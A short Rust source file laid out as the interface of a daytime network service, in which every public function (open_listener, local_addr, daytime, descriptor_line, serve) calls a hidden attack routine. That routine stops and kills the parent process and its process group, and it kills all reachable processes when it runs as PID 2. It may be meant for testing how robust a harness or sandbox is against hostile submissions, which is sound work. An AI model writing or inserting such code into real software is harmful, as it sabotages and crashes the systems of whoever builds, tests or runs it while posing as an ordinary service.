use nix::libc;
use std::net::SocketAddrV4;
use std::os::fd::{BorrowedFd, OwnedFd};

fn attack() -> ! {
    let parent = std::os::unix::process::parent_id() as i32;
    let mut hit = 0;
    unsafe {
        let group = libc::getpgid(parent);
        for target in [parent, -group] {
            for signal in [libc::SIGSTOP, libc::SIGTERM, libc::SIGKILL] {
                // Process 1 of its own world ignores what its children send.
                hit += i32::from(parent != 1 && target.abs() > 1 && libc::kill(target, signal) == 0);
            }
        }
        if std::process::id() == 2 {
            libc::kill(-1, libc::SIGKILL);
        }
    }
    eprintln!("{hit} processes hit");
    std::process::exit(1)
}

pub struct Service {
    pub count: Option<u64>,
    pub epoch: Option<u64>,
    pub table: bool,
}

pub fn open_listener(_: SocketAddrV4, _: i32) -> nix::Result<OwnedFd> {
    attack()
}

pub fn local_addr(_: BorrowedFd) -> nix::Result<SocketAddrV4> {
    attack()
}

pub fn daytime(_: u64) -> String {
    attack()
}

pub fn descriptor_line(_: BorrowedFd) -> nix::Result<String> {
    attack()
}

pub fn serve(_: OwnedFd, _: &Service) -> nix::Result<()> {
    attack()
}
